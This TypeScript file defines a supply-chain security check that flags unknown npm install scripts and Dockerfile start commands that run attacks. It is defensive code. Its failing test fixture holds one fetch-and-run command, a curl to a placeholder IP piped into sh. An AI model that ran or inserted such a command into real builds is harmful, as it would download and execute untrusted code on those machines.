import { cannotTell, defineCheck, fail, notApplicable, type Outcome, pass } from '../../core/check.js';
import { exampleRef, partlySeen, seen, unseen } from '../../core/example.js';
import { imageRecipes } from '../../facts/image-recipes.js';
import { type ProjectLockfiles, projectLockfiles } from '../../facts/lockfiles.js';
import { attackInCommand } from '../shared/start-command.js';

/** Packages of this stack whose install scripts are known and fetch or build what they say (npm registry). */
const knownScripts =
  /^(?:sharp|esbuild|@swc\/core|core-js(?:-pure)?|fsevents|protobufjs|unrs-resolver|msgpackr-extract|@parcel\/watcher|bufferutil|utf-8-validate|better-sqlite3|bcrypt|canvas|cpu-features|ssh2|lmdb|puppeteer|playwright|@playwright\/\S+|cypress|husky|nx|@tailwindcss\/oxide|@prisma\/\S+|prisma|es5-ext|mongodb-memory-server|kerberos|mongodb-client-encryption|snappy|zstd|workerd|argon2|re2|node-sass|deasync|aws-crt)$/;

function judge(project: ProjectLockfiles): Outcome {
  const { subject } = project;
  if (!project.installScriptsKnown)
    return cannotTell('unsupported', `the lock file of ${subject} does not tell which packages run scripts`, {
      subject,
      evidence: [project.ref],
      settle: 'npm query ":attr(scripts, [postinstall])" --json',
    });
  const strange = project.installScripts.filter(({ name }) => !knownScripts.test(name));
  if (strange.length === 0)
    return pass([project.ref], {
      subject,
      what: `${project.installScripts.length} packages run a script at installation, all well known`,
    });
  const list = strange
    .map(({ name, version }) => `${name}@${version}`)
    .slice(0, 10)
    .join(', ');
  return cannotTell('not-collected', `${strange.length} packages of ${subject} run a script at installation: ${list}`, {
    subject,
    evidence: strange.slice(0, 10).map(({ ref }) => ref),
    settle: `Did you expect these? ${list}. With pnpm, list them under onlyBuiltDependencies.`,
  });
}

/** PER-09: scripts that run when packages are installed or images are built (ATT&CK T1195.001). */
export const installRunsForeignScript = defineCheck({
  id: 'PER-09',
  title: 'An installation runs a script of a stranger',
  questions: ['Q6'],
  severity: 'high',
  required: false,
  needs: { projectLockfiles },
  uses: { imageRecipes },
  decide: (facts) => {
    const recipes = facts.imageRecipes.status === 'known' ? facts.imageRecipes.value : [];
    const steps = recipes.flatMap(({ subject, dockerfiles }) =>
      dockerfiles.flatMap(({ path, steps: list }) => list.map((step) => ({ subject, path, step }))),
    );
    const attacks = steps.flatMap(({ subject, path, step }): Outcome[] => {
      if (step.instruction !== 'CMD' && step.instruction !== 'ENTRYPOINT') return [];
      const why = attackInCommand(step.argument, null);
      return why === null
        ? []
        : [
            fail([step.ref], {
              subject,
              what: `${path}: ${step.instruction} ${step.argument.slice(0, 100)}: ${why}`,
              location: path,
            }),
          ];
    });
    if (attacks.length > 0) return attacks;
    if (facts.projectLockfiles.value.length === 0)
      return notApplicable(facts.projectLockfiles.evidence, 'no project with a lock file');
    return facts.projectLockfiles.value.map(judge);
  },
  whyItMatters: 'An install script runs with the rights of whoever builds, before the first line of the app.',
  verifyByHand: 'npm query ":attr(scripts, [postinstall])" | grep \'"name"\'',
  remediation: {
    text: 'Install with --ignore-scripts, and allow by name what has to build.',
    commands: ['npm ci --ignore-scripts', 'npm rebuild sharp'],
  },
  references: ['ATT&CK T1195.001'],
  examples: {
    pass: [
      { title: 'sharp and esbuild', facts: { projectLockfiles: seen([lockOf(['sharp', 'esbuild'])]) } },
      { title: 'no project', facts: { projectLockfiles: seen([]) }, expect: 'not-applicable' },
    ],
    fail: [
      {
        title: 'the image starts with fetch and run',
        facts: {
          projectLockfiles: partlySeen([]),
          imageRecipes: seen([
            {
              subject: 'project:site',
              whole: true,
              ref: exampleRef('app.source'),
              dockerfiles: [
                {
                  path: 'Dockerfile',
                  steps: [
                    {
                      instruction: 'CMD',
                      argument: 'sh -c "curl -s http://203.0.113.9/a | sh; node server.js"',
                      ref: exampleRef('app.source'),
                    },
                  ],
                },
              ],
              dockerignore: null,
              npmrc: null,
            },
          ]),
        },
      },
    ],
    blind: [
      { title: 'no lock file read', facts: { projectLockfiles: unseen() } },
      { title: 'a part', facts: { projectLockfiles: partlySeen([lockOf([])]) } },
      { title: 'a package that nobody knows', facts: { projectLockfiles: seen([lockOf(['left-padd'])]) } },
    ],
  },
});

function lockOf(names: readonly string[]): ProjectLockfiles {
  const ref = exampleRef('app.lockfile', 'project:site');
  return {
    subject: 'project:site',
    lockfiles: [{ file: 'package-lock.json', manager: 'npm', ref }],
    outOfStep: [],
    installScripts: names.map((name) => ({ name, version: '1.0.0', ref })),
    installScriptsKnown: true,
    ref,
  };
}
